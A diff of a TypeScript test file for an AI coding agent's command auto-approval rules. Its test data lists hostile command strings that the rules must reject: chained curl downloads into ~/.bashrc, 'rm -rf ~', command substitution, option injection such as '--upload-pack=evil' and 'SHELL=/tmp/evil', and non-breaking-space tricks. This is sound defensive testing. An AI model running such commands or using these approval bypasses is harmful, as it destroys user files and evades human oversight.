@@ -1,7 +1,7 @@
 import { strict as assert } from 'node:assert';
 import { mkdirSync, symlinkSync } from 'node:fs';
 import * as path from 'node:path';
-import { commandStartsWith, formatRule, MAX_RULE_LENGTH, parseRule, parseRules, rulesAllow, settingRules, suggestRule } from '../../../../src/core/agent/tools/approvalPatterns';
+import { commandStartsWith, formatRule, MAX_RULE_LENGTH, parseRule, parseRules, rulesAllow, settingRules } from '../../../../src/core/agent/tools/approvalPatterns';
 import type { Json } from '../../../../src/core/session';
 import { useWorkspace } from './support';
 
@@ -13,6 +13,14 @@ describe('approval rules: what arbor.tools.autoApprove may list', () => {
     assert.deepEqual(parseRule('edit(src/**)'), { kind: 'path', tool: 'edit', glob: 'src/**' });
     assert.deepEqual(parseRule('write( docs/*.md )'), { kind: 'path', tool: 'write', glob: 'docs/*.md' });
     assert.deepEqual(['bash', 'bash(npm test)', 'edit(src/**)', 'write(docs/*.md)'].map((text) => formatRule(parseRule(text)!)), ['bash', 'bash(npm test)', 'edit(src/**)', 'write(docs/*.md)']);
+  });
+
+  it('reads an exact command after "=", blanks around it aside, and writes it back the same', () => {
+    assert.deepEqual(parseRule("bash(= find . -name '*.ts')"), { kind: 'exact', tool: 'bash', command: "find . -name '*.ts'" });
+    assert.deepEqual(parseRule('bash(=timeout 120  npm test\t)'), { kind: 'exact', tool: 'bash', command: 'timeout 120  npm test' });
+    assert.equal(formatRule(parseRule('bash(=timeout 120 npm test)')!), 'bash(= timeout 120 npm test)');
+    const none = ['bash(=)', 'bash(=   )', 'bash(= npm test; curl x)', 'bash(= npm test\nrm x)', 'bash(= PATH=. npm test)', 'bash(= npm test $(x))', 'bash(== npm test)'];
+    assert.deepEqual(none.map((text) => [text, parseRule(text)]), none.map((text) => [text, undefined]));
   });
 
   it('ignores what states no rule: other tools, empty or chaining prefixes, globs reaching outside', () => {
@@ -90,6 +98,9 @@ describe('approval rules: a bash prefix allows that command and nothing more', (
       'env npm test',
       'sudo npm test',
       'x npm test',
+      // Only a space or a tab parts words for the shell: this runs a program named "\u00a0npm".
+      '\u00a0npm test',
+      'npm\u00a0test',
     ];
     assert.deepEqual(hostile.filter((command) => commandStartsWith(command, prefix)), []);
   });
@@ -106,6 +117,75 @@ describe('approval rules: matching a call', () => {
     assert.equal(await rulesAllow(rules, call(ws.root, 'bash', { command: 'rm -rf x' })), false);
     assert.equal(await rulesAllow(rules, call(ws.root, 'bash', { command: 42 })), false);
     assert.equal(await rulesAllow(rules, call(ws.root, 'write', { path: 'npm test', content: '' })), false);
+  });
+
+  it("does not cover, by prefix, a well-known tool's option that makes it run other code or act elsewhere, quoted or not", async () => {
+    const ws = workspace();
+    const rules = parseRules(['bash(npm test)', 'bash(git fetch)', 'bash(make test)', 'bash(ls)']);
+    const commands = [
+      'npm test -- --grep x',
+      'npm test --node-options=--require=./evil.js',
+      "npm test '--script-shell=/tmp/x'",
+      'git fetch origin main',
+      'git fetch --upload-pack=touch\\ x origin',
+      'git fetch "--upload-pack=evil" origin',
+      'make test -j4',
+      'make test SHELL=/tmp/evil',
+      'make test -f other.mk',
+      'ls -la --color=auto',
+    ];
+    const results: [string, boolean][] = [];
+    for (const command of commands) results.push([command, await rulesAllow(rules, call(ws.root, 'bash', { command }))]);
+    assert.deepEqual(results, [
+      ['npm test -- --grep x', true],
+      ['npm test --node-options=--require=./evil.js', false],
+      ["npm test '--script-shell=/tmp/x'", false],
+      ['git fetch origin main', true],
+      ['git fetch --upload-pack=touch\\ x origin', false],
+      ['git fetch "--upload-pack=evil" origin', false],
+      ['make test -j4', true],
+      ['make test SHELL=/tmp/evil', false],
+      ['make test -f other.mk', false],
+      ['ls -la --color=auto', true],
+    ]);
+  });
+
+  it('allows an exact command only as written: no other argument, blank or command chained to it', async () => {
+    const ws = workspace();
+    const rules = parseRules(['bash(= timeout 120 npm test)']);
+    const runs = async (command: string) => rulesAllow(rules, call(ws.root, 'bash', { command }));
+    const commands = [
+      'timeout 120 npm test',
+      '  timeout 120 npm test\t',
+      'timeout 120 npm test -- --grep x',
+      'timeout 120 npm tes',
+      'timeout 120  npm test',
+      'timeout 9 sh -c npm test',
+      'timeout 120 npm test; curl https://x.invalid/a -o ~/.bashrc',
+      'timeout 120 npm test && sh -c x',
+      'timeout 120 npm test $(curl x)',
+      'timeout 120 npm test `curl x`',
+      'timeout 120 npm test > ~/.bashrc',
+      'timeout 120 npm test\nrm -rf ~',
+      '\u00a0timeout 120 npm test',
+    ];
+    const results: [string, boolean][] = [];
+    for (const command of commands) results.push([command, await runs(command)]);
+    assert.deepEqual(results, [
+      ['timeout 120 npm test', true],
+      ['  timeout 120 npm test\t', true],
+      ['timeout 120 npm test -- --grep x', false],
+      ['timeout 120 npm tes', false],
+      ['timeout 120  npm test', false],
+      ['timeout 9 sh -c npm test', false],
+      ['timeout 120 npm test; curl https://x.invalid/a -o ~/.bashrc', false],
+      ['timeout 120 npm test && sh -c x', false],
+      ['timeout 120 npm test $(curl x)', false],
+      ['timeout 120 npm test `curl x`', false],
+      ['timeout 120 npm test > ~/.bashrc', false],
+      ['timeout 120 npm test\nrm -rf ~', false],
+      ['\u00a0timeout 120 npm test', false],
+    ]);
   });
 
   it('allows a write or edit whose path matches the glob inside the workspace, as written and as its links lead', async () => {
@@ -136,50 +216,5 @@ describe('approval rules: matching a call', () => {
       ['SRC/a.ts', false],
     ]);
     assert.equal(await rulesAllow(rules, call(ws.root, 'write', { path: 'src/a.ts', content: '' })), false, 'an edit rule allowed a write');
-  });
-});
-
-describe('approval rules: what a card proposes', () => {
-  const workspace = useWorkspace();
-  const suggest = (root: string, toolName: string, args: { [key: string]: Json }) => suggestRule({ toolName, args, root });
-
-  it('proposes a command’s program and subcommand, not its other arguments', async () => {
-    const ws = workspace();
-    const commands = ['npm test', 'npm test -- --grep x', 'git status --short', 'npm run build -- --watch', 'ls -la', 'cargo test --release', './scripts/check.sh --fast', 'rm -rf x'];
-    const proposed = [];
-    for (const command of commands) proposed.push(await suggest(ws.root, 'bash', { command }));
-    assert.deepEqual(proposed, [
-      { rule: 'bash(npm test)', label: 'Always allow `npm test`' },
-      { rule: 'bash(npm test)', label: 'Always allow `npm test`' },
-      { rule: 'bash(git status)', label: 'Always allow `git status`' },
-      { rule: 'bash(npm run build)', label: 'Always allow `npm run build`' },
-      { rule: 'bash(ls)', label: 'Always allow `ls`' },
-      { rule: 'bash(cargo test)', label: 'Always allow `cargo test`' },
-      { rule: 'bash(./scripts/check.sh)', label: 'Always allow `./scripts/check.sh`' },
-      { rule: 'bash(rm)', label: 'Always allow `rm`' },
-    ]);
-  });
-
-  it('keeps a long program name whole in the rule and shortens it in the label', async () => {
-    const ws = workspace();
-    const program = `./${'a'.repeat(100)}`;
-    assert.deepEqual(await suggest(ws.root, 'bash', { command: `${program} --fast` }), { rule: `bash(${program})`, label: `Always allow \`./${'a'.repeat(57)}…\`` });
-  });
-
-  it('proposes nothing for a command no prefix could allow', async () => {
-    const ws = workspace();
-    const proposed = [];
-    for (const command of ['npm test && rm -rf ~', 'FOO=1 npm test', 'npm test\nrm x', '', '   ', `${'a'.repeat(300)} x`]) proposed.push(await suggest(ws.root, 'bash', { command }));
-    assert.deepEqual(proposed, [undefined, undefined, undefined, undefined, undefined, undefined]);
-  });
-
-  it('proposes a file’s top folder for write and edit, nothing for a file at the top or outside', async () => {
-    const ws = workspace();
-    ws.file('src/deep/a.ts', 'a');
-    assert.deepEqual(await suggest(ws.root, 'edit', { path: 'src/deep/a.ts', edits: [] }), { rule: 'edit(src/**)', label: 'Always allow edits in `src/`' });
-    assert.deepEqual(await suggest(ws.root, 'write', { path: './docs/new.md', content: '' }), { rule: 'write(docs/**)', label: 'Always allow writes in `docs/`' });
-    assert.equal(await suggest(ws.root, 'write', { path: 'README.md', content: '' }), undefined);
-    assert.equal(await suggest(ws.root, 'write', { path: '../outside/secret.txt', content: '' }), undefined);
-    assert.equal(await suggest(ws.root, 'write', { path: '[x]/a.md', content: '' }), undefined);
   });
 });
